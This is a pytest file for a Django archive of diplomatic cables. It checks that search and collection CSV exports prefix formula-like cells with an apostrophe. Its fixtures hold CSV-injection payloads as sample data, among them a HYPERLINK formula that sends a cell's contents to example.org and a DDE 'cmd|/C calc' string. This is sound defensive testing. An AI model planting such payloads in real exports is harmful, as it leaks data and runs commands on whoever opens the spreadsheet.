"""Every CSV the archive writes keeps a spreadsheet from running its cells: a cell starting
with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe
(`cables/lib/csv_cells.py`), in the search export and in a collection's export alike."""

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.db import transaction
from django.test import Client
from django.urls import reverse

from cables.ingest.incremental import ingest_paths
from cables.lib.csv_cells import safe_cell, safe_row
from cables.models import Cable, Collection, Tag

from .conftest import CABLEGATE_HTML

pytestmark = pytest.mark.django_db

KARIMOVA = "05TASHKENT2473"
OTHER = "05TASHKENT284"
FORMULAS = {
    "=": '=HYPERLINK("http://example.org/?leak="&A1,"open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1,2)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_a_cell_starting_like_a_formula_gets_an_apostrophe_and_others_are_kept():
    for start, value in FORMULAS.items():
        assert safe_cell(value) == "'" + value, start
    assert safe_cell("GULNORA KARIMOVA") == "GULNORA KARIMOVA"
    assert safe_cell("a = b") == "a = b"
    assert safe_cell("") == ""
    assert safe_row([3, None, True, "=1"]) == [3, None, True, "'=1"]


@pytest.fixture(scope="module")
def archive(django_db_setup, django_db_blocker):
    """Two real cablegate pages whose subject and origin are then written like formulas, as a
    hostile source could; a reader's collection of two of their paragraphs."""
    pages = [p for p in CABLEGATE_HTML if p.stem in {KARIMOVA, OTHER}]
    with django_db_blocker.unblock(), transaction.atomic():
        ingest_paths(pages)
        Cable.objects.filter(reference_id=KARIMOVA).update(
            subject=FORMULAS["="], origin=FORMULAS["@"]
        )
        Cable.objects.filter(reference_id=OTHER).update(
            subject=FORMULAS["\t"], origin=FORMULAS["+"]
        )
        Cable.objects.get(reference_id=OTHER).tags.add(Tag.objects.create(code="-EVIL"))
        reader = Client()
        reader.force_login(get_user_model().objects.create_user("reader"))
        save = reverse("collections:save")
        new = {"collection": "new", "new_name": "Formulas", "note": FORMULAS["-"]}
        reader.post(f"{save}?cable={KARIMOVA}&par=2", new)
        collection = Collection.objects.get(name="Formulas")
        reader.post(f"{save}?cable={KARIMOVA}&par=5", {"collection": str(collection.pk)})
        # The note form strips a leading carriage return; a stored one is written as it is.
        collection.items.filter(paragraph_number=5).update(note=FORMULAS["\r"])
        yield collection
        transaction.set_rollback(True)


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_cell_runs(rows: list[dict]) -> None:
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(tuple(FORMULAS)), (name, value)


def test_the_search_export_neutralises_subjects_origins_and_tags(archive):
    response = Client().get(reverse("cables:api-export-csv"))
    assert response.status_code == 200
    rows = {
        row["reference_id"]: row for row in rows_of(b"".join(response.streaming_content).decode())
    }
    assert rows[KARIMOVA]["subject"] == "'" + FORMULAS["="]
    assert rows[KARIMOVA]["origin"] == "'" + FORMULAS["@"]
    assert rows[OTHER]["subject"] == "'" + FORMULAS["\t"]
    assert rows[OTHER]["origin"] == "'" + FORMULAS["+"]
    assert rows[OTHER]["tags"].startswith("'-EVIL")
    assert_no_cell_runs(rows.values())


def test_the_search_export_in_json_keeps_the_text_as_it_is(archive):
    response = Client().get(reverse("cables:api-export-json"))
    rows = {r["reference_id"]: r for r in json.loads(b"".join(response.streaming_content))}
    assert rows[KARIMOVA]["subject"] == FORMULAS["="]


def test_a_collection_export_neutralises_notes_and_the_cables_text(archive):
    response = Client().get(reverse("collections:export-csv", args=[archive.token]))
    assert response.status_code == 200
    rows = rows_of(response.content.decode())
    assert [row["note"] for row in rows] == ["'" + FORMULAS["-"], "'" + FORMULAS["\r"]]
    assert {row["subject"] for row in rows} == {"'" + FORMULAS["="]}
    assert {row["origin"] for row in rows} == {"'" + FORMULAS["@"]}
    assert_no_cell_runs(rows)
